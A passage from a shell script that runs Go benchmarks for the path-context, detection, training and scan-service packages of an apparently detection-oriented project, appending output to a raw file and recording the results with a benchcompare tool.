go test -bench 'BenchmarkPathHash|BenchmarkExtract' -benchmem -run '^$' \
    ./internal/pathctx/ | tee -a "$raw"

echo "==> end-to-end detection benchmark"
go test -bench '^BenchmarkDetect$' -benchmem -run '^$' . | tee -a "$raw"

echo "==> training pipeline benchmark (parallel fit)"
go test -bench '^BenchmarkTrain$' -benchmem -run '^$' \
    ./internal/core/ | tee -a "$raw"

echo "==> scan service benchmarks"
go test -bench 'BenchmarkServeScanBatch' -benchmem -run '^$' \
    ./internal/serve/ | tee -a "$raw"

echo "==> recording run into $out"
go run ./cmd/benchcompare record -file "$out" < "$raw" > /dev/null

echo "==> wrote $out"
